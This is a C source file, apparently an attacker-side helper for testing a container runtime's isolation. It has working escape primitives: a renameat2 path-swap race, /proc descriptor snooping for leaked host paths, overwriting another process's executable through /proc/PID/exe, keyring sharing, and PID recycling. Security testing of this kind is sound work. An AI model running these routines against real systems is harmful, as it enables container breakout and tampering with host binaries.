/* What runs on the attacker's side: in a container, or beside one with a volume in common. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* Exchanges two names until it is killed. */
static int swap(const char *a, const char *b) {
    while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0 || errno == ENOENT) {}
    return perror("swap"), 1;
}

static void say(int log, const char *pid, const char *what, const char *more) {
    char line[PATH_MAX + 64];
    int length = snprintf(line, sizeof line, "%s %s %s\n", pid, what, more);
    if (write(log, line, length) < 0) _exit(1);
}

/* Looks at every process but the first and itself until it is killed. Writes a line for each thing that it got hold of,
 * and `looked` when it has seen a process at all. */
static __attribute__((noreturn)) int spy(const char *file, const char *canary) {
    int log = open(file, O_CREAT | O_WRONLY | O_APPEND, 0666), looked = 0;
    char own[16], path[PATH_MAX], target[PATH_MAX];
    snprintf(own, sizeof own, "%d", getpid());
    say(log, own, "ready", "");
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            const char *pid = entry->d_name;
            if (*pid < '0' || *pid > '9' || !strcmp(pid, "1") || !strcmp(pid, own)) continue;
            if (!looked++) say(log, pid, "looked", "");
            /* What is the container's already may be looked at: its program is in there. */
            for (int fd = 3; fd < 40; fd++) {
                snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
                ssize_t length = readlink(path, target, sizeof target - 1);
                if (length < 0) continue;
                target[length] = 0;
                say(log, pid, "holds", target);
                snprintf(path, sizeof path, "/proc/%s/fd/%d/%s", pid, fd, canary);
                if (access(path, F_OK) == 0) say(log, pid, "led-to", canary);
            }
            snprintf(path, sizeof path, "/proc/%s/cwd/%s", pid, canary);
            if (access(path, F_OK) == 0) say(log, pid, "led-to", canary);
            snprintf(path, sizeof path, "/proc/%s/root/%s", pid, canary);
            if (access(path, F_OK) == 0) say(log, pid, "led-to", canary);
        }
        closedir(proc);
    }
}

/* Waits for a process whose program is not this container's, keeps a handle on its program, ends the process, and
 * writes to the program. */
static int overwrite(const char *file, const char *name) {
    int log = open(file, O_CREAT | O_WRONLY | O_APPEND, 0666);
    char path[PATH_MAX], target[PATH_MAX];
    for (int handle = -1; handle < 0;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; handle < 0 && (entry = readdir(proc));) {
            if (*entry->d_name < '0' || *entry->d_name > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length < 0) continue;
            target[length] = 0;
            if ((strcmp(target, name) && (!name[1] || !strstr(target, name))) || (handle = open(path, O_RDONLY)) < 0) continue;
            say(log, entry->d_name, "opened", target);
            kill(atoi(entry->d_name), SIGKILL);
            snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
            /* As long as it runs, it is busy. */
            int writable = -1;
            for (int i = 0; i < 2000 && (writable = open(path, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY; i++)
                usleep(1000);
            if (writable < 0) {
                say(log, entry->d_name, "refused", strerror(errno));
            } else {
                say(log, entry->d_name, write(writable, "overwritten", 11) == 11 ? "wrote" : "refused", target);
            }
        }
        closedir(proc);
    }
    return 0;
}

static long keyctl(long a, long b, long c, long d, long e) { return syscall(SYS_keyctl, a, b, c, d, e); }

/* Keys: `plant NAME` makes a session keyring of that name which everybody may use, `put TEXT` a key in the session's
 * keyring, `get` shows it. All but `get` go on as another program. */
static int key(char **args) {
    char text[64] = "nothing";
    if (!strcmp(*args, "plant")) {
        long ring = keyctl(1 /* join */, (long)args[1], 0, 0, 0);
        if (ring < 0 || keyctl(5 /* setperm */, ring, 0x3f3f3f3f, 0, 0) < 0) return perror("plant"), 1;
        args += 2;
    }
    if (!strcmp(*args, "session")) {
        if (keyctl(1, 0, 0, 0, 0) < 0) return perror("session"), 1;
        args += 1;
    }
    if (!strcmp(*args, "put")) {
        if (syscall(SYS_add_key, "user", "sampan-test", args[1], strlen(args[1]), -3) < 0) return perror("put"), 1;
        args += 2;
    }
    if (!strcmp(*args, "exec")) {
        execv(args[1], args + 1);
        return perror(args[1]), 1;
    }
    long found = keyctl(10 /* search */, -3, (long)"user", (long)"sampan-test", 0);
    if (found >= 0) {
        long length = keyctl(11 /* read */, found, (long)text, sizeof text - 1, 0);
        if (length >= 0 && length < (long)sizeof text) text[length] = 0;
    }
    printf("key: %s\n", text);
    return 0;
}

/* Whether there is a terminal to push characters into. */
static int terminal(void) {
    int fd = open("/dev/tty", O_RDWR);
    printf("terminal: %s\n", fd < 0 ? "none" : "its caller's");
    return 0;
}

/* Makes directories in each other, with paths that no call could take. */
static int nest(const char *directory, int count) {
    char name[251];
    memset(name, 'n', sizeof name - 1), name[250] = 0;
    if (chdir(directory)) return perror(directory), 1;
    for (int i = 0; i < count; i++)
        if (mkdir(name, 0755) || chdir(name)) return perror("nest"), 1;
    return 0;
}

/* As the first process of a PID namespace: runs `first`, ends the process whose number is in `file` then, makes another
 * of that number, runs `second`, and tells whether that other one is still there. */
static int recycle(const char *first, const char *file, const char *second) {
    if (system(first)) return 3;
    FILE *in = fopen(file, "r");
    int pid = 0, status;
    if (!in || fscanf(in, "%d", &pid) != 1) return 4;
    kill(pid, SIGKILL);
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {}
    pid_t other = 0;
    for (int i = 0; i < 1000 && other != pid; i++) {
        FILE *last = fopen("/proc/sys/kernel/ns_last_pid", "w");
        if (!last || fprintf(last, "%d", pid - 1) < 0 || fclose(last)) return 5;
        other = fork();
        if (other == 0) _exit(pause());
        if (other != pid) kill(other, SIGKILL), waitpid(other, &status, 0);
    }
    if (other != pid) return 6;
    int code = system(second);
    /* An end takes a moment. */
    usleep(100000);
    printf("code %d, the other is %s\n", code, waitpid(other, &status, WNOHANG) == 0 ? "alive" : "dead");
    return 0;
}

int main(int count, char **args) {
    if (count > 3 && !strcmp(args[1], "swap")) return swap(args[2], args[3]);
    if (count > 3 && !strcmp(args[1], "spy")) return spy(args[2], args[3]);
    if (count > 3 && !strcmp(args[1], "overwrite")) return overwrite(args[2], args[3]);
    if (count > 2 && !strcmp(args[1], "key")) return key(args + 2);
    if (count > 1 && !strcmp(args[1], "terminal")) return terminal();
    if (count > 3 && !strcmp(args[1], "nest")) return nest(args[2], atoi(args[3]));
    if (count > 4 && !strcmp(args[1], "recycle")) return recycle(args[2], args[3], args[4]);
    return 2;
}
